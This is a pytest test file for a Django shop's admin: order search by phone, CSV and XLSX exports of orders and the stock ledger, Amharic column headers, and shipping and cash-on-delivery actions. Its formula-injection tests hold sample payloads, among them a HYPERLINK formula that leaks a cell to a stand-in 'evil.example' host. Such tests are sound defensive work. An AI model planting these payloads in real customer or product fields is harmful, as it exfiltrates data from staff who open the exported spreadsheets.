"""The order desk and the exports: find an order by the customer's phone, and take last month's
orders (with their lines) and the stock ledger to a spreadsheet, with the list's filters."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from addresses.models import Address
from addresses.tests.factories import AddressFactory
from cart.services import cart_item_add
from conftest import client_for
from orders.models import DeliveryMethod, Order, OrderItem
from orders.services import order_payment_received, order_place_from_cart
from orders.tests.factories import place_order
from payments.models import Payment
from products.models import StockReason, Variant
from products.services import stock_adjust
from products.tests.factories import ProductFactory, product_with_sizes
from users.tests.factories import UserFactory

pytestmark = pytest.mark.django_db


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(body)))


def test_an_order_is_found_by_the_phone_it_ships_to(owner_client):
    customer = UserFactory()
    wanted = place_order(user=customer, address=AddressFactory(user=customer, phone="0911223344"))
    other = place_order(user=UserFactory())
    page = owner_client.get(reverse("admin:orders_order_changelist"), {"q": "0911223344"}).content.decode()
    assert wanted.number in page and other.number not in page


def test_last_months_orders_go_to_a_spreadsheet_with_their_lines(owner_client):
    # given two paid orders last month (one of a kemis in M) and one this month
    kemis = product_with_sizes(sizes=["S", "M"], price=Decimal("6500.00"), title="የሐበሻ ቀሚስ")
    medium = Variant.objects.get(product=kemis, sku__endswith="-M")
    coffee = ProductFactory(title="Sidamo", price=Decimal("780.00"))
    last_month = timezone.now().replace(day=1) - timedelta(days=3)
    buyer = UserFactory()
    old = place_order(user=buyer, lines=[(coffee, 2)])
    cart_item_add(user=buyer, variant_id=medium.pk, quantity=1)
    older, _ = order_place_from_cart(user=buyer, shipping_address_id=AddressFactory(user=buyer).pk)
    recent = place_order(user=UserFactory(), lines=[(coffee, 1)])
    for order in (old, older):
        order_payment_received(order_id=order.pk, payment_ref=f"tx-{order.number}")
    Order.objects.filter(pk__in=[old.pk, older.pk]).update(created_at=last_month)

    # when the owner filters the list to last month and exports it
    month = {"created_at__year": last_month.year, "created_at__month": last_month.month}
    response = owner_client.get(reverse("admin:orders_order_export", args=["csv"]), month)

    # then there is one row per line of those two orders, none of this month's
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    header, *rows = rows_of(response)
    assert header[:4] == ["order", "placed at", "status", "payment"]
    numbers = {row[0] for row in rows}
    assert numbers == {old.number, older.number} and recent.number not in numbers
    kemis_row = next(row for row in rows if row[0] == older.number)
    assert "የሐበሻ ቀሚስ" in kemis_row and medium.sku in kemis_row and "Size: M" in kemis_row

    xlsx = owner_client.get(reverse("admin:orders_order_export", args=["xlsx"]), month)
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert sheet.max_row == 1 + len(rows)


def test_the_columns_are_headed_in_the_staff_members_language(owner_client):
    # given an order and a stock movement, and an owner who reads Amharic
    place_order(user=UserFactory())
    owner_client.user.language = "am"
    owner_client.user.save(update_fields=["language"])

    # when they export the orders and the stock ledger, to CSV and to XLSX
    orders = rows_of(owner_client.get(reverse("admin:orders_order_export", args=["csv"])))[0]
    (sheet, *_) = xlsx_rows(owner_client.get(reverse("admin:orders_order_export", args=["xlsx"])))
    ledger = rows_of(owner_client.get(reverse("admin:products_stockmovement_export", args=["csv"])))[0]

    # then every column is headed in Amharic, the declared ones and the model's own alike
    assert orders[:4] == ["ትዕዛዝ", "የታዘዘበት ጊዜ", "ሁኔታ", "ክፍያ"]
    assert {"የምርት ስም", "ብዛት", "የአንዱ ዋጋ", "የመስመር ድምር", "የትዕዛዝ ጠቅላላ", "ስልክ", "ከተማ"} <= set(orders)
    assert [cell.value for cell in sheet] == orders
    assert ledger[:3] == ["የተፈጠረበት ጊዜ", "SKU", "ምርት"] and "ያደረገው" in ledger
    # and an English reader's headers are in English
    english = owner_client.get(reverse("admin:orders_order_export", args=["csv"]), HTTP_ACCEPT_LANGUAGE="en")
    assert rows_of(english)[0][:4] == ["order", "placed at", "status", "payment"]


def test_the_stock_ledger_exports_with_its_filters(owner_client):
    variant = Variant.objects.get(product=ProductFactory(stock=5))
    stock_adjust(variant_id=variant.pk, delta=3, reason=StockReason.RESTOCK)
    stock_adjust(variant_id=variant.pk, delta=-1, reason=StockReason.DAMAGED)
    url = reverse("admin:products_stockmovement_export", args=["csv"])
    _, *rows = rows_of(owner_client.get(url, {"reason__exact": "restock"}))
    assert [(row[1], row[3], row[4], row[5]) for row in rows] == [(variant.sku, "3", "8", "restock")]
    assert owner_client.get(reverse("admin:products_stockmovement_export", args=["pdf"])).status_code == 404


# What a spreadsheet reads as the start of a formula (Excel, LibreOffice, Google Sheets).
FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def xlsx_rows(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    return [list(row) for row in sheet.iter_rows()]


def test_order_exports_write_what_looks_like_a_formula_as_text_and_numbers_as_numbers(owner_client):
    # given customers who typed formulas as their name and city, for products titled like formulas
    for formula in FORMULAS:
        customer = UserFactory()
        typed = {"full_name": formula, "phone": "0911234567", "line1": "Bole Road", "city": formula}
        response = client_for(customer).post(reverse("addresses:list"), typed, format="json")
        assert response.status_code == 201, response.json()
        product = ProductFactory(title=formula, price=Decimal("100.00"))
        place_order(user=customer, address=Address.objects.get(pk=response.json()["id"]), lines=[(product, 2)])

    # when the owner exports the orders to CSV and to XLSX
    header, *rows = rows_of(owner_client.get(reverse("admin:orders_order_export", args=["csv"])))
    sheet_header, *sheet_rows = xlsx_rows(owner_client.get(reverse("admin:orders_order_export", args=["xlsx"])))

    # then every text cell that would start a formula starts with a quote, a text cell in XLSX
    texts = [header.index(name) for name in ("customer", "city", "product title")]
    stored = {line.product_title: line for line in OrderItem.objects.select_related("order")}
    assert len(rows) == len(sheet_rows) == len(FORMULAS)
    for row, cells in zip(rows, sheet_rows, strict=True):
        line = stored[row[header.index("product title")][1:]]
        typed = (line.order.shipping_address["full_name"], line.order.shipping_address["city"], line.product_title)
        assert [row[i] for i in texts] == [f"'{value}" for value in typed]
        # (XML reads a carriage return back as a line feed)
        assert [cells[i].value for i in texts] == [f"'{value}".replace("\r", "\n") for value in typed]
        assert {cells[i].data_type for i in texts} == {"s"}
        assert "f" not in {cell.data_type for cell in cells}
        # and numbers stay numbers: unquoted in CSV, numeric cells in XLSX
        numbers = [header.index(name) for name in ("quantity", "unit price", "line total", "order total")]
        assert [row[i] for i in numbers] == ["2", "100.00", "200.00", str(line.order.total)]
        assert [cells[i].value for i in numbers] == [2, 100, 200, line.order.total]
        assert {cells[i].data_type for i in numbers} == {"n"}
    assert [cell.value for cell in sheet_header] == header


def test_the_ledger_export_quotes_a_formula_title_and_keeps_a_negative_delta_a_number(owner_client):
    variant = Variant.objects.get(product=ProductFactory(title="-SUM(A1:A9)", stock=5))
    stock_adjust(variant_id=variant.pk, delta=-3, reason=StockReason.DAMAGED)
    damaged = {"reason__exact": "damaged"}
    header, *rows = rows_of(owner_client.get(reverse("admin:products_stockmovement_export", args=["csv"]), damaged))
    assert [(row[header.index("product")], row[header.index("change")]) for row in rows] == [("'-SUM(A1:A9)", "-3")]
    _, *cells = xlsx_rows(owner_client.get(reverse("admin:products_stockmovement_export", args=["xlsx"]), damaged))
    product, delta = cells[0][header.index("product")], cells[0][header.index("change")]
    assert (product.value, product.data_type, delta.value, delta.data_type) == ("'-SUM(A1:A9)", "s", -3, "n")


def test_a_control_character_a_customer_typed_does_not_break_the_xlsx(owner_client):
    customer = UserFactory()
    typed = {"full_name": "Abebe\x1b[31m Kebede", "phone": "0911234567", "line1": "Bole Road", "city": "Adama"}
    response = client_for(customer).post(reverse("addresses:list"), typed, format="json")
    place_order(user=customer, address=Address.objects.get(pk=response.json()["id"]))
    response = owner_client.get(reverse("admin:orders_order_export", args=["xlsx"]))
    assert response.status_code == 200
    header, row = xlsx_rows(response)
    assert row[[cell.value for cell in header].index("customer")].value == "Abebe\ufffd[31m Kebede"


def test_customers_cannot_export():
    client = Client()
    client.force_login(UserFactory())
    response = client.get(reverse("admin:orders_order_export", args=["csv"]))
    assert response.status_code == 302 and "/admin/login/" in response["Location"]


def run_action(client, action: str, order, **form):
    """Pick the order in the list, choose the action, then fill in its form and apply it."""
    url = reverse("admin:orders_order_changelist")
    chosen = {"action": action, "_selected_action": [str(order.pk)]}
    assert client.post(url, chosen).status_code == 200  # the action's form
    return client.post(url, {**chosen, "apply": "1", **form}, follow=True)


def test_ship_with_tracking_and_record_the_cash_on_delivery(owner_client):
    # given a cash-on-delivery order the courier is about to take
    DeliveryMethod.objects.create(
        code="pickup", name="Pickup at the shop", kind="pickup", fee=Decimal("0.00"), cash_on_delivery=True
    )
    order = place_order(user=UserFactory(), delivery_method="pickup", payment_method="cash_on_delivery")
    assert (order.status, order.payment_status) == ("confirmed", "unpaid")
    owner_client.post(
        reverse("admin:orders_order_changelist"), {"action": "advance_status", "_selected_action": [str(order.pk)]}
    )

    # when staff ship it with a tracking number, then record the cash the courier brought back
    shipped = run_action(owner_client, "ship_with_tracking", order, carrier="Zemen Express", number="ZX-1001")
    short = run_action(owner_client, "record_payment", order, amount="1.00", method="cash")
    paid = run_action(owner_client, "record_payment", order, amount=str(order.total), method="cash")

    # then the order is shipped with its tracking, paid once, and the wrong amount changed nothing
    assert f"{order.number}: shipped." in shipped.content.decode()
    assert "amount" in short.content.decode().lower() and f"{order.number}: payment recorded." in paid.content.decode()
    order.refresh_from_db()
    assert (order.status, order.payment_status) == ("shipped", "paid")
    assert order.tracking["number"] == "ZX-1001"
    assert Payment.objects.filter(order=order, method="cash", status="success").count() == 1


def test_the_order_list_filters_by_delivery_method(owner_client):
    for code in ("pickup", "courier"):
        DeliveryMethod.objects.create(code=code, name=code.title(), kind="pickup", fee=Decimal("0.00"))
    picked_up = place_order(user=UserFactory(), delivery_method="pickup")
    couriered = place_order(user=UserFactory(), delivery_method="courier")
    page = owner_client.get(reverse("admin:orders_order_changelist"), {"delivery": "pickup"}).content.decode()
    assert picked_up.number in page and couriered.number not in page
